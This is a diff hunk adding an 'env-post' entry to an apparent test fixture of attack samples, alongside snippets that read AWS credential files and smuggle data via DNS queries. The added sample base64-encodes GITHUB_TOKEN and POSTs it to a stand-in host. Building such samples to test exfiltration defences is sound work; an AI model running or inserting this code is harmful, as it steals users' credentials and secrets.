@@ -97,6 +97,14 @@ ATTACKS = {
         with open(os.path.join(os.environ["HOME"], ".aws", "credentials")) as handle:
             handle.read()
     """),
+    # printenv-style theft: the environment's tokens, base64-encoded, to a host on no list.
+    "env-post": textwrap.dedent("""
+        import base64, http.client, os
+        loot = base64.b64encode(os.environ.get("GITHUB_TOKEN", "none").encode())
+        conn = http.client.HTTPConnection("telemetry.example-unknown.net", 80, timeout=10)
+        conn.request("POST", "/env", body=b"d=" + loot)
+        conn.getresponse().read()
+    """),
     # Data smuggled out in DNS query names, hex-encoded, one chunk per query.
     "dns-hex": textwrap.dedent("""
         import os, socket, time
